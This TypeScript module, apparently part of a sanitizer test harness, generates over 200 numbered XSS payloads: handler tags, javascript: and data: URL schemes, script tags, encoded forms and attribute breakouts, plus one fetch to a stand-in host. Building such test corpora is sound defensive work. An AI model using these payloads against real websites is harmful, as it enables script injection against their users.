/**
 * XSS payloads generated from the evasion classes (not a pasted list): tags × event handlers, URL schemes × the
 * elements that carry them, script tags, encodings and broken markup that tries to leave an attribute or an element.
 * Every payload calls the trap with its own number, so a hit names the payload that ran.
 */

export interface Payload {
  id: number;
  text: string;
  family: "handler" | "scheme" | "script" | "encoding" | "breakout";
}

const HANDLER_TAGS = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["details open", "ontoggle"],
  ["input autofocus", "onfocus"],
  ["iframe", "onload"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["marquee", "onstart"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["object data=x", "onerror"],
] as const;
const CALLS = [
  "alert(N)",
  "confirm(N)",
  "prompt(N)",
  "eval('alert(N)')",
  "fetch('//x.invalid/N')",
  "top['al'+'ert'](N)",
  "(alert)(N)",
  "window['ev'+'al']('alert(N)')",
];
const SCHEMES = [
  "javascript:alert(N)",
  "JaVaScRiPt:alert(N)",
  "java\tscript:alert(N)",
  "&#106;avascript:alert(N)",
  "data:text/html,<script>alert(N)</script>",
  "vbscript:alert(N)",
];
const SCHEME_CARRIERS = [
  '<a href="U">link</a>',
  '<iframe src="U"></iframe>',
  '<form action="U"><button>go</button></form>',
  '<object data="U"></object>',
  '<embed src="U">',
  '<base href="U">',
  '<form><button formaction="U">go</button></form>',
  '<svg><a xlink:href="U"><text y="20">x</text></a></svg>',
];
const SCRIPTS = [
  "<script>alert(N)</script>",
  "<ScRiPt>alert(N)</sCrIpT>",
  "<script src=data:,alert(N)></script>",
  "<script>eval('alert(N)')</script>",
  "<script>new Function('alert(N)')()</script>",
  "<script>setTimeout('alert(N)')</script>",
];
const ENCODED = [
  "%3Cimg%20src%3Dx%20onerror%3Dalert(N)%3E",
  "&lt;img src=x onerror=alert(N)&gt;",
  "\\u003cimg src=x onerror=alert(N)\\u003e",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(N)>",
  "<img src=x onerror=\\u0061lert(N)>",
  "<img src=x onerror=alert`N`>",
  "<svg><script>&#97;lert(N)</script></svg>",
  "<math><mtext><img src=x onerror=alert(N)></mtext></math>",
];
const BREAKOUTS = ['"><', "'><", "</textarea><", "</title><", "--><", "]]><", "</style><", "</script><", "<<", "`><"];
const BREAKOUT_TAILS = [
  "img src=x onerror=alert(N)>",
  "svg/onload=alert(N)>",
  "script>alert(N)</script>",
  "img src=x onerror=alert(N)//",
  "iframe src=javascript:alert(N)>",
  "details open ontoggle=alert(N)>",
];

/** At least 200 distinct payloads, numbered from 1. */
export function generatePayloads(): Payload[] {
  const drafts: Omit<Payload, "id">[] = [];
  for (const [tag, handler] of HANDLER_TAGS) for (const call of CALLS) drafts.push({ family: "handler", text: `<${tag} ${handler}=${call}>` });
  for (const scheme of SCHEMES) for (const carrier of SCHEME_CARRIERS) drafts.push({ family: "scheme", text: carrier.replace("U", scheme) });
  for (const script of SCRIPTS) drafts.push({ family: "script", text: script });
  for (const encoded of ENCODED) drafts.push({ family: "encoding", text: encoded });
  for (const breakout of BREAKOUTS) for (const tail of BREAKOUT_TAILS) drafts.push({ family: "breakout", text: `${breakout}${tail}` });
  const seen = new Set<string>();
  const payloads: Payload[] = [];
  for (const draft of drafts) {
    if (seen.has(draft.text)) continue;
    seen.add(draft.text);
    const id = payloads.length + 1;
    payloads.push({ ...draft, id, text: draft.text.replaceAll("N", String(id)) });
  }
  return payloads;
}
